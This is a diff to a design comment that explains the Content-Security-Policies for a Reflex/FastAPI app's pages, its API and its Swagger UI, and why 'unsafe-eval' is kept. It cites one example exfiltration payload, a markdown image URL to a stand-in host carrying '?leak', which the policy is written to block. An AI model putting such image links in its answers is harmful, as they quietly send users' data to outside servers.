@@ -11,8 +11,9 @@ Three Content-Security-Policies, chosen by path:
   (Radix and emotion write ``<style>`` elements and ``style`` attributes at run time). Images
   from this origin, ``data:`` and ``blob:`` only, so a model answer cannot make the browser call
   out with ``![](https://elsewhere/?leak)``. The ``/_event`` WebSocket is same-origin (``'self'``
-  covers ws:/wss: of this host). ``'unsafe-eval'`` stays while the chat state returns
-  ``rx.call_script``: Reflex runs those server-sent snippets with ``eval``.
+  covers ws:/wss: of this host). ``'unsafe-eval'`` stays because Reflex runs the events a
+  server handler returns as script (toasts, downloads) with ``eval``; those strings come from our
+  server code, never from content, and the page's own scripts are compiled into the bundle.
 - **the API** (``/api/``): JSON and files, never a page: nothing may load or run.
 - **the Swagger UI** (``/api/v1/docs``): FastAPI's page loads Swagger UI from jsDelivr and starts
   it with one inline script; that script is allowed by its hash, taken from the page itself.
